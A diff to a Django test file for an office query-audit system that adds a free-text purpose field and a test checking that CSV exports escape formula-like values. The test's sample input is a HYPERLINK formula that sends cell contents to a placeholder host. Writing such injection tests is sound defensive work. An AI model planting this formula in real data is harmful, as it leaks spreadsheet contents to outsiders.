@@ -59,7 +59,7 @@ def at(day: dt.date, hour: int = 12) -> dt.datetime:
 
 
 def lookup(officer, subject=None, *, when=None, purpose="credit_repair", kind="subject_page",
-           persons=None) -> QueryRegistration:  # fmt: skip
+           persons=None, detail="") -> QueryRegistration:  # fmt: skip
     """One registration, as a page would write it, at a chosen time."""
     subject = subject or SubjectFactory(natural_person=True)
     return QueryRegistration.objects.create(
@@ -67,7 +67,7 @@ def lookup(officer, subject=None, *, when=None, purpose="credit_repair", kind="s
         department=officer.department, role="recognizing_officer", purpose_id=purpose, kind=kind,
         route="POST /office/subjects/<int:subject_id>/", subject=subject,
         natural_persons=int(subject.is_natural_person) if persons is None else persons, rows=1,
-        client_address="10.0.0.8",
+        client_address="10.0.0.8", purpose_detail=detail,
     )  # fmt: skip
 
 
@@ -454,3 +454,14 @@ def test_a_period_ending_before_it_starts_is_refused_not_answered_empty(client):
     client.force_login(officer.user)
     html = client.get("/office/queries/?since=2026-11-20&until=2026-11-01").content.decode()
     assert "结束日期早于开始日期" in html
+
+
+def test_a_purpose_written_as_a_formula_is_exported_as_text(reviewer_client, reviewer, scjg):
+    """An officer's free text reaches the reviewer's spreadsheet: one that starts like a
+    formula gets an apostrophe, so opening the export runs nothing (CSV injection)."""
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"详情")'
+    lookup(scjg, detail=formula)
+    answer = reviewer_client.get("/office/queries/export.csv", {"account": "scjg_officer"})
+    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode("utf-8-sig"))))
+    detail = rows[0].index("事由说明")
+    assert rows[1][detail] == "'" + formula
